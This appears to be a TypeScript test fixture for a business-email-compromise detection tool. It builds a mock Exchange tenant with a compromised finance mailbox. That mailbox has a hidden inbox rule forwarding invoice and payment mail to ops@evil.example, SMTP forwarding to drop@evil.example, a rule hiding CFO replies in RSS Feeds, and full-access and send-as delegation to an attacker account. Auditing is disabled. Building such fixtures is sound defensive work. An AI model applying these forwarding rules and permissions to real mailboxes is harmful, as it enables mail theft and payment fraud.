/**
 * A small tenant for the Exchange cmdlet tests: a compromised finance user (Megan) whose
 * mailbox forwards out, holds a hidden forwarding rule and a rule moving replies to RSS Feeds,
 * and delegates to an attacker-controlled account; a colleague; a break-glass account with no
 * mailbox. Built in code so each test starts from a fresh copy.
 */
import type { InboxRule, Mailbox, TenantState, User } from "../../local-tenant/model";
import { newMailbox } from "../support/mailbox";

export const TENANT_ID = "0b5e1f7a-0000-4000-8000-000000000001";

function mailbox(alias: string, domain: string, extra: Partial<Mailbox> = {}): Mailbox {
    return newMailbox(alias, `${alias}@${domain}`, extra);
}

function user(id: string, alias: string, displayName: string, box: Mailbox | null): User {
    return {
        id,
        userPrincipalName: `${alias}@contoso.com`,
        displayName,
        mail: box ? `${alias}@contoso.com` : null,
        accountEnabled: true,
        userType: "Member",
        onPremisesSyncEnabled: null,
        createdDateTime: "2024-01-01T00:00:00Z",
        signInSessionsValidFromDateTime: "2024-01-01T00:00:00Z",
        lastPasswordChangeDateTime: "2024-01-01T00:00:00Z",
        authenticationMethods: [],
        memberOf: [],
        mailbox: box,
    };
}

/** A hidden rule forwarding invoices out, and a visible one moving replies to RSS Feeds. */
export const FORWARD_RULE: InboxRule = {
    id: "AQAAAJ5dZqA=",
    displayName: ".",
    sequence: 1,
    isEnabled: true,
    isHidden: true,
    conditions: { subjectContains: ["invoice", "payment"] },
    actions: {
        forwardTo: [{ emailAddress: { name: "Ops", address: "ops@evil.example" } }],
        stopProcessingRules: true,
    },
};

export const RSS_RULE: InboxRule = {
    id: "AQAAAAcAAAA=",
    displayName: "Move replies",
    sequence: 2,
    isEnabled: true,
    conditions: { senderContains: ["cfo"] },
    actions: { moveToFolder: "rssfeeds", markAsRead: true },
};

export function buildExchangeTenant(): TenantState {
    const megan = mailbox("meganb", "contoso.com", {
        forwardingSmtpAddress: "smtp:drop@evil.example",
        deliverToMailboxAndForward: true,
        grantSendOnBehalfTo: ["attacker", "alexw"],
        inboxRules: [structuredClone(FORWARD_RULE), structuredClone(RSS_RULE)],
        mailboxPermissions: [
            {
                user: "attacker@contoso.com",
                accessRights: ["FullAccess"],
                isInherited: false,
                deny: false,
            },
        ],
        recipientPermissions: [
            { trustee: "attacker@contoso.com", accessRights: ["SendAs"], isInherited: false },
        ],
        folderPermissions: [
            { folder: "\\Inbox", user: "attacker@contoso.com", accessRights: ["Reviewer"] },
            { folder: "\\Calendar", user: "alexw@contoso.com", accessRights: ["Editor"] },
        ],
    });
    return {
        schemaVersion: 1,
        tenant: {
            id: TENANT_ID,
            displayName: "Contoso",
            initialDomain: "contoso.onmicrosoft.com",
            verifiedDomains: ["contoso.com"],
        },
        apps: [
            {
                clientId: "5d2f1a4e-6b7c-4d8e-9f00-aabbccddeeff",
                clientSecret: "",
                displayName: "BEC Guard",
                servicePrincipalId: "6e3a2b5f-7c8d-4e9f-a011-bbccddeeff00",
                graphRoles: [],
                exchangeManageAsApp: false,
                exchangeRoles: [],
            },
        ],
        users: [
            user("11111111-1111-4111-8111-111111111111", "meganb", "Megan Bowen", megan),
            user(
                "22222222-2222-4222-8222-222222222222",
                "attacker",
                "Adele Vance",
                mailbox("attacker", "contoso.com"),
            ),
            user(
                "33333333-3333-4333-8333-333333333333",
                "alexw",
                "Alex Wilber",
                mailbox("alexw", "contoso.com"),
            ),
            user("44444444-4444-4444-8444-444444444444", "breakglass", "Break Glass", null),
        ],
        groups: [],
        servicePrincipals: [],
        oauth2PermissionGrants: [],
        appRoleAssignments: [],
        policies: {
            authenticationMethodsPolicy: {},
            authorizationPolicy: {},
            adminConsentRequestPolicy: {},
        },
        conditionalAccess: { policies: [], namedLocations: [] },
        auditLogs: { signIns: [], directoryAudits: [] },
        exchange: {
            organizationConfig: { Name: "contoso.onmicrosoft.com", AuditDisabled: true },
            adminAuditLogConfig: { UnifiedAuditLogIngestionEnabled: false },
            hostedOutboundSpamFilterPolicies: [],
            remoteDomains: [],
            transportRules: [],
            dkimSigningConfigs: [],
            acceptedDomains: [],
        },
    };
}
